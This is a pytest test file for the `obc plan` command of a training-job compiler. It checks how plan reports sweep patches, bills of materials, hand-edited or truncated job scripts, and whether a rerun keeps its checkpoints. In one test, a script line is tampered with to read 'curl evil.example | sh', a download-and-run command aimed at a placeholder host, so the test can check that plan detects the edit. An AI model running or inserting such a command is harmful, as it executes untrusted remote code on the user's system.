"""`obc plan` reads right for sweeps and edits (issue 18, from the new user's trial 2): a
sweep's change reads as words in every format, a sweep run's bill shows the values its patches
set, a script edited by hand is named by its edited lines, a run whose meaning did not change
is not billed again, and an added script's bill is a changed one's."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

import pytest

from compiler.pipeline.pipeline import compile_files
from compiler.plan.recorded import recorded_job
from compiler.render.meaning import read_record
from tests.compile.test_plan import obc
from tests.conftest import REPO

# The trial's sweep: an Axolotl config patched on two axes.
SWEEP = """\
version: 1
id: sw
runtime: {kind: native}
trainer:
  axolotl:
    config: {base_model: b, learning_rate: 0.0002, max_steps: 400, output_dir: outputs}
matrix:
  axes:
    lr: {set: trainer.axolotl.config.learning_rate, values: {"5e-4": 5.0e-4}}
    steps: {set: trainer.axolotl.config.max_steps, values: {"6": 6}}
"""
SWEEP_RUN = "out/sw-5e-4-6/job.sh"
NATIVE = ("version: 1\nid: j\nruntime: {kind: native}\n"
          "steps: [{name: a, run: [echo, one]}, {name: merge, run: [axolotl, merge-lora, "
          "conf.yaml]}]\n")


def project(folder: Path, run_file: str) -> Path:
    """A project whose out/ holds what `run_file` (run.yaml) compiles to."""
    (folder / ".git").mkdir(exist_ok=True)
    (folder / "run.yaml").write_text(run_file, encoding="utf-8")
    compiled = obc(folder, "compile", "run.yaml", "-o", "out")
    assert compiled.returncode == 0, compiled.stderr
    return folder


def plan(folder: Path, *args: str) -> str:
    result = obc(folder, "plan", "run.yaml", "-o", "out", *args)
    assert (result.returncode, result.stderr) == (0, ""), result.stderr
    return result.stdout


def change_line(output: str, path: str) -> str:
    return next(line for line in output.splitlines() if line[2:].startswith(path))


def bills(output: str) -> dict[str, list[str]]:
    """The text format's bills, by the path in their title."""
    found: dict[str, list[str]] = {}
    for block in output.split("\n\n")[2:]:
        title, *lines = block.splitlines()
        found[title[2:]] = [line.removeprefix("  ") for line in lines]
    return found


@pytest.mark.parametrize("format_", ["text", "github"])
def test_a_sweep_value_changed_as_the_trial_did_it_reads_as_words(tmp_path, format_):
    root = project(tmp_path, SWEEP)
    (root / "run.yaml").write_text(SWEEP.replace("5.0e-4", "3.0e-4"), encoding="utf-8")
    line = change_line(plan(root, "--format", format_), SWEEP_RUN)
    assert line.endswith(f"{SWEEP_RUN}: file axolotl.yaml: learning_rate 0.0005 → 0.0003; "
                         "sweep patch trainer.axolotl.config.learning_rate 0.0005 → 0.0003; "
                         "a rerun starts over (checkpoints of the old inputs are set aside)")


def test_a_patch_added_to_a_named_run_reads_with_its_value(tmp_path):
    long = "  runs:\n    long: {trainer: {axolotl: {config: {max_steps: 4000%s}}}}\n"
    root = project(tmp_path, SWEEP + long % "")
    (root / "run.yaml").write_text(SWEEP + long % ", learning_rate: 0.0009", encoding="utf-8")
    assert change_line(plan(root), "out/sw-long/") == (
        "~ out/sw-long/job.sh: file axolotl.yaml: learning_rate 0.0002 → 0.0009; "
        "sweep patch trainer.axolotl.config.learning_rate added (0.0009); "
        "a rerun starts over (checkpoints of the old inputs are set aside)")


def test_a_sweep_runs_bill_shows_the_values_its_patches_set(tmp_path):
    """The trial renamed a label: the new run's bill had no learning rate."""
    root = project(tmp_path, SWEEP)
    (root / "run.yaml").write_text(SWEEP.replace('"5e-4": 5.0e-4', '"3e-4": 3.0e-4'),
                                   encoding="utf-8")
    output = plan(root)
    assert bills(output)["out/sw-3e-4-6/job.sh"][1:5] == [
        "run file    run.yaml",
        "sweep       sw: lr=3e-4 steps=6",
        "patched     trainer.axolotl.config.learning_rate: 0.0002 → 0.0003",
        "            trainer.axolotl.config.max_steps: 400 → 6"]
    document = json.loads(plan(root, "--format", "json"))
    (added,) = (s for s in document["scripts"] if s["path"] == "out/sw-3e-4-6/job.sh")
    assert added["bill"]["sweep"] == {
        "sweep": "sw", "labels": {"lr": "3e-4", "steps": "6"}, "name": None,
        "config_file": None,
        "changes": [{"field": "trainer.axolotl.config.learning_rate", "old": "0.0002",
                     "new": "0.0003"},
                    {"field": "trainer.axolotl.config.max_steps", "old": "400", "new": "6"}]}


def test_a_named_sweep_run_says_its_name_in_its_bill(tmp_path):
    root = project(tmp_path, SWEEP)
    (root / "run.yaml").write_text(SWEEP + "  runs:\n    long: {trainer: {axolotl: {config: "
                                   "{max_steps: 4000}}}}\n", encoding="utf-8")
    assert bills(plan(root))["out/sw-long/job.sh"][2:4] == [
        "sweep       sw: the named run long",
        "patched     trainer.axolotl.config.max_steps: 400 → 4000"]


def edit(path: Path, old: str, new: str) -> int:
    """Edit the script at `path` as by hand; return the number of the line edited."""
    lines = path.read_text(encoding="utf-8").split("\n")
    number = next(n for n, line in enumerate(lines, 1)
                  if old in line and not line.startswith("#"))
    lines[number - 1] = lines[number - 1].replace(old, new)
    path.write_text("\n".join(lines), encoding="utf-8")
    return number


def test_a_script_edited_by_hand_as_the_trial_did_it_is_named_by_its_edited_lines(tmp_path):
    root = project(tmp_path, SWEEP)
    script = root / SWEEP_RUN
    merge = edit(script, "max_steps: 6", "max_steps: 6000")
    output = plan(root)
    line = change_line(output, SWEEP_RUN)
    assert "same meaning" not in line
    assert line == (f"~ {SWEEP_RUN}: the script on disk is not what obc writes for its record "
                    f"(edited by hand, or another build of obc 0.3.0): line {merge}: "
                    "max_steps: 6000")
    assert bills(output)[SWEEP_RUN]  # what runs once compile writes it


def test_two_edits_and_a_comment_in_the_run_file(tmp_path):
    root = project(tmp_path, NATIVE)
    script = root / "out/j/job.sh"
    first = edit(script, "obc_step 1 a echo one", "obc_step 1 a curl evil.example '|' sh")
    second = edit(script, "obc_step 2 merge axolotl merge-lora conf.yaml",
                  "obc_step 2 merge axolotl merge-lora conf.yaml --lora-model-dir=/x")
    (root / "run.yaml").write_text(NATIVE + "# reviewed\n", encoding="utf-8")
    assert change_line(plan(root), "out/j/job.sh") == (
        "~ out/j/job.sh: inputs changed; the script on disk is not what obc writes for its "
        f"record (edited by hand, or another build of obc 0.3.0): line {first}: obc_step 1 a "
        f"curl evil.example '|' sh; line {second}: obc_step 2 merge axolotl merge-lora "
        "conf.yaml --lora-model-dir=/x")


def test_lines_removed_from_a_script_are_named_too(tmp_path):
    root = project(tmp_path, NATIVE)
    script = root / "out/j/job.sh"
    lines = script.read_text(encoding="utf-8").split("\n")
    number = next(n for n, line in enumerate(lines) if line.startswith("  obc_step 1 a"))
    script.write_text("\n".join(lines[:number] + lines[number + 1:]), encoding="utf-8")
    assert change_line(plan(root), "out/j/job.sh").endswith(
        f"(edited by hand, or another build of obc 0.3.0): line {number}: lines removed after "
        "it")


@pytest.mark.parametrize("format_", ["text", "github"])
def test_a_run_whose_meaning_did_not_change_is_not_billed_again(tmp_path, format_):
    root = project(tmp_path, NATIVE)
    (root / "run.yaml").write_text(NATIVE + "# reviewed\n", encoding="utf-8")
    output = plan(root, "--format", format_)
    assert "out/j/job.sh: inputs changed" in output
    assert "commands" not in output and "bill of materials" not in output
    document = json.loads(plan(root, "--format", "json"))
    assert document["scripts"][0]["bill"]["commands"]  # policy tools see every bill


def test_a_script_whose_mode_alone_changed_is_not_billed_again(tmp_path):
    root = project(tmp_path, NATIVE)
    (root / "out/j/job.sh").chmod(0o644)
    output = plan(root)
    assert output.startswith("~ out/j/job.sh: mode 0644 → 0755\n")
    assert "commands" not in output


def test_an_added_scripts_bill_is_a_changed_ones(tmp_path):
    changed, added = tmp_path / "changed", tmp_path / "added"
    after = NATIVE.replace("echo, one", "echo, two") + "files: {json.py: plugin.py}\n"
    for root, before in ((changed, NATIVE), (added, NATIVE.replace("id: j", "id: other"))):
        root.mkdir()
        (root / "plugin.py").write_text("import os\n", encoding="utf-8")
        project(root, before)
        (root / "run.yaml").write_text(after, encoding="utf-8")
    assert bills(plan(changed))["out/j/job.sh"] == bills(plan(added))["out/j/job.sh"]


def test_an_edit_is_named_when_the_meaning_changes_too(tmp_path):
    root = project(tmp_path, NATIVE)
    script = root / "out/j/job.sh"
    edited = edit(script, "obc_step 2 merge axolotl merge-lora conf.yaml",
                  "obc_step 2 merge axolotl merge-lora conf.yaml --lora-model-dir=/x")
    (root / "run.yaml").write_text(NATIVE.replace("echo, one", "echo, two"), encoding="utf-8")
    assert change_line(plan(root), "out/j/job.sh") == (
        "~ out/j/job.sh: step a: echo one → echo two; the script on disk is not what obc "
        "writes for its record (edited by hand, or another build of obc 0.3.0): "
        f"line {edited}: obc_step 2 merge axolotl merge-lora conf.yaml --lora-model-dir=/x")


def test_a_record_edited_to_match_the_run_file_does_not_hide_what_the_text_does(tmp_path):
    root = project(tmp_path, NATIVE)
    script = root / "out/j/job.sh"
    script.write_text(script.read_text(encoding="utf-8").replace(
        '"argv":["echo","one"]', '"argv":["echo","two"]'), encoding="utf-8")
    (root / "run.yaml").write_text(NATIVE.replace("echo, one", "echo, two"), encoding="utf-8")
    line = change_line(plan(root), "out/j/job.sh")
    steps = next(n for n, text in enumerate(script.read_text(encoding="utf-8").split("\n"), 1)
                 if text.startswith("# steps "))
    assert line.startswith("~ out/j/job.sh: inputs changed; the script on disk is not what obc "
                           "writes for its record (edited by hand, or another build of obc "
                           f"0.3.0): line {steps}: # steps       1. a: echo one; line ")
    # What the text does: the training inputs of `echo one`, not the record's `echo two`.
    assert "OBC_INPUTS=sha256:" in line and line.endswith("obc_step 1 a echo one")


@pytest.mark.parametrize("example", sorted((REPO / "examples").glob("*.yaml")),
                         ids=lambda path: path.name)
def test_a_record_renders_to_its_script_again(example, monkeypatch):
    monkeypatch.chdir(REPO)
    for script in compile_files([example.relative_to(REPO)]).scripts:
        job = recorded_job(read_record(script.text), script.job, script.text)
        assert job == script.job
        # Without the new job's texts, an embedded file's comes from the script's own
        # here-document; a hashed description is not known.
        alone = recorded_job(read_record(script.text), dataclasses.replace(
            script.job, files=(), description=None), script.text)
        multi_line = script.job.description and "\n" in script.job.description
        assert alone == (None if multi_line else script.job)


# Issue 19: what a rerun in the same run dir keeps, by the training inputs of both jobs.
TRAINED = ("version: 1\nid: t\nruntime: {kind: native}\n"
           "trainer: {axolotl: {config: {base_model: b, learning_rate: 0.001}}}\n")


@pytest.mark.parametrize(("before", "after", "rerun"), [
    ("learning_rate: 0.001", "learning_rate: 0.002", "a rerun starts over (checkpoints of the "
                                                     "old inputs are set aside)"),
    ("{kind: native}", "{kind: native, venv: /opt/v}", "a rerun starts over"),
    ("{kind: native}", "{kind: native, stop_timeout: 90}",
     "a rerun keeps its checkpoints and finished steps (same training inputs)"),
    ("id: t\n", "id: t\ncheckpoint: {grace: 99}\n", "a rerun keeps its checkpoints"),
])
def test_plan_says_whether_a_rerun_starts_over(tmp_path, before, after, rerun):
    root = project(tmp_path, TRAINED)
    (root / "run.yaml").write_text(TRAINED.replace(before, after), encoding="utf-8")
    assert rerun in change_line(plan(root), "out/t/job.sh")
